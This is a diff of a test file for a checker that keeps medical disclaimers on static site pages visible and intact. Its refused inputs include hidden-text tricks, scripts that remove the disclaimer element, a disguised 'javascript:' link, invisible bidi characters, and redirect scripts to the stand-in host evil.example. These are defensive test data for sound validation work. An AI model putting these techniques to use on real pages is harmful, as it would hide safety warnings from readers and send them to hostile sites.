@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -35,6 +36,7 @@ UNSHOWN = (
     "element that was not closed, or without their class. Close it, or show them by the site's templates."
 )
 TWO = "the page carries 2 disclaimers, and a reader needs one. Remove all but the template's."
+NO_DOCTYPE = "the page does not begin with '<!doctype html>', so browsers match style rules otherwise. Add it."
 OUTSIDE = "the disclaimer stands outside the main content, where few read it. Put it inside <main>."
 
 
@@ -131,6 +133,21 @@ SPOILT = {
         "<div aria-hidden=TRUE>",
         ["the disclaimer is hidden from screen readers by 'aria-hidden' of <div>. Remove it."],
     ),
+    "label in the place of words": (
+        "<div role='none IMG' aria-label='Decoration'>",
+        ["the disclaimer is hidden from screen readers by 'role' of <div>. Remove it."],
+    ),
+    "narrow table": (
+        "<table width=1><tr><td nowrap>",
+        [
+            "the attribute 'nowrap' of <td> can hide the disclaimer. Use the site's style sheet.",
+            "the attribute 'width' of <table> can hide the disclaimer. Use the site's style sheet.",
+        ],
+    ),
+    "another heading": (
+        "<h2>Skip this legal noise</h2>\n",
+        ["the disclaimer is headed 'Skip this legal noise' instead of 'Medical disclaimer'. Correct that."],
+    ),
     "unclosed style attribute": (
         "<div style='display:none'>",
         ["the disclaimer is hidden by the style 'display: none' of <div>. Remove this style."],
@@ -222,7 +239,7 @@ SPOILT = {
         ["the attribute 'to' of <set> is a script or a page of its own. Write a plain address."],
     ),
     "script address in a drawing": (
-        "<svg><a xlink:href='\x01javascript:1'>a</a></svg>",
+        "<svg><a xlink:href='&#1;javascript:1'>a</a></svg>",
         ["the attribute 'xlink:href' of <a> is a script or a page of its own. Write a plain address."],
     ),
     "refresh": (
@@ -258,6 +275,13 @@ ODD = {
     "open details": "<details open><summary>More</summary>",
     "closed textarea": "<textarea rows=2></textarea>",
     "closed noscript": "<noscript><p>No scripts here.</p></noscript>",
+    "a comment on noscript": "<!-- <noscript> is not used here -->",
+    "a value with noscript": "<span title='<noscript>'>a</span><img src='a.png' alt='a <noscript> tag'>",
+    "data with noscript": '<script type="application/json">{"a": "<noscript>"}</script>',
+    "a noscript and a comment on it": "<noscript>No scripts.</noscript><!-- <noscript> -->",
+    "its own heading": "<h2>Medical\n disclaimer</h2>\n",
+    "a heading further up": "<h2>Read next</h2><p>More</p>",
+    "a group": "<div role=group>",
     "closed template": "<template><p>later</p></template>",
     "unclosed paragraph": "<p>one<p>two",
     "unclosed table": "<table><tr><td>",
@@ -308,6 +332,10 @@ WRONG = {
         ASIDE.replace("no medical", "<b hidden>no</b> medical"),
         ["the disclaimer is hidden by the attribute 'hidden' of <b>. Remove the attribute."],
     ),
+    "another label": (
+        ASIDE.replace("<aside", "<aside aria-label='Decoration'"),
+        ["the disclaimer is labelled 'Decoration' instead of 'Medical disclaimer'. Correct that."],
+    ),
     "struck words": (ASIDE.replace("no medical", "<del>no</del> medical"), [otherwise("del")]),
     "in the header": (f"</main><div>{ASIDE}</div>", [OUTSIDE]),
 }
@@ -318,15 +346,12 @@ def test_wrong_disclaimer_is_refused(instead: str, expected: list[str]) -> None:
     assert judged(BEFORE + instead + AFTER) == expected
 
 
-QUIRKS = "the page does not begin with '<!doctype html>', so browsers read its styles by other rules. Add it."
-
-
 @pytest.mark.parametrize(
     ("doctype", "expected"),
     [
-        ("", [QUIRKS]),
-        ('<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 3.2 Final//EN">', [QUIRKS]),
-        ("<p><!doctype html>", [QUIRKS]),
+        ("", [NO_DOCTYPE]),
+        ('<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 3.2 Final//EN">', [NO_DOCTYPE]),
+        ("<p><!doctype html>", [NO_DOCTYPE]),
         ("\n<!DOCTYPE HTML >", []),
     ],
 )
@@ -337,6 +362,19 @@ def test_page_that_browsers_read_by_rules_of_old_is_refused(doctype: str, expect
 @pytest.mark.parametrize("page", ["", " ", "x", "<!doctype html>", "<frameset><frame></frameset>"])
 def test_page_without_anything_is_refused(page: str) -> None:
     assert NONE in judged(page)
+
+
+@pytest.mark.parametrize(
+    ("before", "expected"),
+    [
+        ("", [NO_DOCTYPE]),
+        ("<p>a</p><!doctype html>", [NO_DOCTYPE]),
+        ("<!doctype htm>", [NO_DOCTYPE]),
+        ("\n<!-- built by hand --> <!DOCTYPE HTML SYSTEM 'about:legacy-compat'>", []),
+    ],
+)
+def test_page_must_begin_as_browsers_expect(before: str, expected: list[str]) -> None:
+    assert judged(before + BEFORE.removeprefix("<!doctype html>") + ASIDE + AFTER) == expected
 
 
 @pytest.mark.parametrize(
@@ -358,12 +396,38 @@ def test_same_words_in_other_clothes_pass(words: str) -> None:
         (BEFORE.encode("utf-16"), "the file is not UTF-8, so browsers read other words than were written."),
         (b"caf\xe9", "the file is not UTF-8, so browsers read other words than were written."),
         (b"a\0b", "the file holds a NUL character."),
+        (b"\x1b$B", "the file holds the control character U+001B."),
     ],
-    ids=["utf-16", "latin-1", "nul"],
+    ids=["utf-16", "latin-1", "nul", "iso-2022-jp"],
 )
 def test_page_that_cannot_be_read_is_refused(data: bytes, expected: str) -> None:
-    with pytest.raises(UnreadableError, match=f"^{expected} Save it as UTF-8.$"):
+    with pytest.raises(UnreadableError, match=f"^{re.escape(expected)} Save it as UTF-8.$"):
         read_page("index.html", data)
+
+
+@pytest.mark.parametrize(
+    ("name", "page"),
+    [
+        ("a.html", "<meta charset='Shift_JIS'>"),
+        ("a.html", "<meta http-equiv=content-type content='text/html; charset=Shift_JIS'>"),
+        ("a.xhtml", "<?xml version='1.0' encoding='Shift_JIS'?><html xmlns='http://www.w3.org/1999/xhtml'/>"),
+    ],
+)
+def test_page_that_tells_of_another_encoding_is_refused(name: str, page: str) -> None:
+    expected = "the file says that it is 'Shift_JIS', so browsers read other words than were written. Write 'utf-8'."
+    with pytest.raises(UnreadableError, match=f"^{re.escape(expected)}$"):
+        read_page(name, page.encode())
+
+
+@pytest.mark.parametrize("count", [250, 5_000, 50_000])
+def test_page_that_is_nested_too_deep_is_refused(count: int) -> None:
+    expected = "the file has more than 200 elements in one another, too many to be judged. Close them."
+    with pytest.raises(UnreadableError, match=f"^{re.escape(expected)}$"):
+        read_page("index.html", (BEFORE + "<div>" * count + ASIDE + AFTER).encode())
+
+
+def test_page_that_is_nested_less_deep_is_judged() -> None:
+    assert judged(BEFORE + "<div>" * 190 + ASIDE + AFTER) == []
 
 
 XHTML = '<html xmlns="http://www.w3.org/1999/xhtml"><head><title/></head><body><main>{}</main></body></html>'
@@ -418,6 +482,10 @@ DRAWINGS = {
         SVG.format('<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">a</p></foreignObject>'),
         ["the file holds a page inside (XHTML). Remove that part."],
     ),
+    "page inside behind a reference": (
+        SVG.format('<foreignObject><p xmlns="http://www.w3.org/1999&#47;xhtml">a</p></foreignObject>'),
+        ["the file holds a page inside (XHTML). Remove that part."],
+    ),
     "not closed": (
         "<svg><script>1</script>",
         [
@@ -454,19 +522,43 @@ def test_drawing_that_only_shows_passes(drawing: str) -> None:
     assert check_drawing(drawing.encode()) == []
 
 
-def test_script_that_names_the_disclaimer_is_refused() -> None:
-    expected = "the script names '.disclaimer', so it could take the words away. Leave that element alone."
-    assert check_script(b"document.querySelector('.disclaimer')") == [expected]
-    assert check_script(b"document.querySelector('.other')") == []
+@pytest.mark.parametrize(
+    ("script", "name"),
+    [
+        ("document.querySelector('.disclaimer')", "disclaimer"),
+        ('document.getElementsByClassName("disclaimer")[0].remove()', "disclaimer"),
+        ("document.getElementsByClassName( `note disclaimer` )", "disclaimer"),
+        ("document.querySelector('[class=\"disclaimer\"]')", "disclaimer"),
+        ("document.querySelector('.page-foot').remove()", "page-foot"),
+    ],
+)
+def test_script_that_names_the_disclaimer_is_refused(script: str, name: str) -> None:
+    expected = f"the script names '.{name}', so it could take the words away. Leave that element alone."
+    assert check_script(script.encode()) == [expected]
 
 
-def test_script_that_browsers_read_otherwise_is_refused() -> None:
-    expected = "the script is not UTF-8, so browsers read other code than was judged. Save it as UTF-8."
-    script = "document.querySelector('.disclaimer')"
-    assert check_script(script.encode("utf-16")) == [expected]
-    assert check_script(script.encode("utf-16-le")) == [expected]
-    assert check_script(b"// caf\xe9") == [expected]
-    assert check_script("\ufeff// café".encode()) == []
+@pytest.mark.parametrize(
+    "script",
+    ["location='https://evil.example/?'+location", 'window.location.href = "//evil.example/"', "location.replace(`https://evil.example/`)"],
+)  # fmt: skip
+def test_script_that_leads_away_is_refused(script: str) -> None:
+    (message,) = check_script(script.encode())
+    assert message.startswith("the script leads the reader to '")
+    assert message.endswith("evil.example/'. Write a link that the reader can choose.") or "/?'" in message
+
+
+def test_script_in_another_encoding_is_refused() -> None:
+    expected = "the script is not UTF-8, so browsers run another one than was judged. Save it as UTF-8."
+    for encoding in ("utf-16", "utf-16-le", "latin-1"):
+        assert check_script("'é'; document.querySelector('.disclaimer')".encode(encoding)) == [expected]
+
+
+@pytest.mark.parametrize(
+    "script",
+    ["query('.other')", "// the disclaimer stays", '["disclaimer", "page-footnote"]', "location.hash = '#a'"],
+)
+def test_script_that_leaves_the_words_alone_passes(script: str) -> None:
+    assert check_script(script.encode()) == []
 
 
 def test_sheet_that_browsers_read_otherwise_is_refused() -> None:
@@ -493,6 +585,22 @@ def test_sheet_that_browsers_read_otherwise_is_refused() -> None:
                 "Say that the page is information only and when to ask for help."
             ),
         ),
+        (
+            "la la la la la la la la la la la la la la",
+            (
+                "'extra.disclaimer' is 'la la la la la la la la la la la la la la', which is too short to warn anyone. "
+                "Say that the page is information only and when to ask for help."
+            ),
+        ),
+        (
+            f"\u202e{WORDS}",
+            "'extra.disclaimer' holds the invisible character U+202E, which can turn or break words. Delete it.",
+        ),
+        (
+            WORDS.replace("medical", "med\u200bical"),
+            "'extra.disclaimer' holds the invisible character U+200B, which can turn or break words. Delete it.",
+        ),
+        (WORDS.replace("information", "infor\u00admation"), ""),
         (
             "- - - - - - - - - - - - - - -",
             (
@@ -547,7 +655,8 @@ def found_in(folder: Path, files: dict[str, str | bytes], expected: dict[str, st
 
 @pytest.mark.parametrize("name", ["a.html", "a.htm", "a.HTML", "deep/er/a.Htm", "a.xhtml", "a.XHT"])
 def test_every_file_that_a_browser_shows_is_judged(tmp_path: Path, name: str) -> None:
-    assert found_in(tmp_path, {name: "<html><body><p>Old leaflet</p></body></html>"}) == [
+    doctype = "" if "xh" in name.lower() else "<!doctype html>"
+    assert found_in(tmp_path, {name: f"{doctype}<html><body><p>Old leaflet</p></body></html>"}) == [
         f"site/{name}: {NONE} [disclaimer]"
     ]
 
@@ -557,9 +666,49 @@ def test_every_file_of_xml_is_judged(tmp_path: Path, name: str) -> None:
     assert found_in(tmp_path, {name: SVG.format("<script>1</script>")}) == [f"site/{name}: {INLINE} [disclaimer]"]
 
 
-@pytest.mark.parametrize("name", ["a.txt", "a.png", "a", "a.json", "a.html.txt", "a.woff2"])
+@pytest.mark.parametrize("name", ["a.txt", "a.png", "CNAME", "a.json", "a.html.txt", "a.woff2"])
 def test_file_that_no_browser_shows_as_a_page_passes(tmp_path: Path, name: str) -> None:
     assert found_in(tmp_path, {name: "<html><script>1</script>"}) == []
+
+
+@pytest.mark.parametrize(
+    ("name", "ending"),
+    [
+        ("a.php", "the ending '.php'"),
+        ("a.MHT", "the ending '.mht'"),
+        ("a.svgz", "the ending '.svgz'"),
+        ("a.html.gz", "the ending '.gz'"),
+        ("a", "no ending"),
+        ("_headers", "no ending"),
+        (".htaccess", "no ending"),
+    ],
+)
+def test_file_that_is_not_judged_is_refused(tmp_path: Path, name: str, ending: str) -> None:
+    assert found_in(tmp_path, {name: "<html><p>Old leaflet</p>"}) == [
+        (
+            f"site/{name}: a file with {ending} is not judged, so it could show words without the disclaimer. "
+            "Rewrite it as a page in Markdown, or remove it. [disclaimer]"
+        )
+    ]
+
+
+def test_folder_that_is_a_link_is_refused(tmp_path: Path) -> None:
+    folder_with(tmp_path / "other", {"a.html": "<p>Old leaflet</p>"})
+    (tmp_path / "site").mkdir()
+    (tmp_path / "site" / "more").symlink_to(tmp_path / "other")
+    expected = "the folder is a link, and what it holds was not judged. Put the files themselves there."
+    assert found_in(tmp_path / "site", {}) == [f"site/more: {expected} [disclaimer]"]
+
+
+@pytest.mark.parametrize("target", ["x.txt", "/x.txt", "none.js", "site.css", "deep/x.mjs?x"])
+def test_script_that_is_not_judged_is_refused(tmp_path: Path, target: str) -> None:
+    page = BEFORE + f'<script src="{target}"></script>' + ASIDE + AFTER
+    assert found_in(tmp_path, {"a.html": page, "x.txt": "alert(1)", "x.js": ""}) == [
+        (
+            f"site/a.html: the script '{target}' was not judged: it is no .js or .mjs file of this folder. "
+            "Keep it there. [disclaimer]"
+        )
+    ]
 
 
 def test_rule_of_any_sheet_in_the_folder_is_judged(tmp_path: Path) -> None:
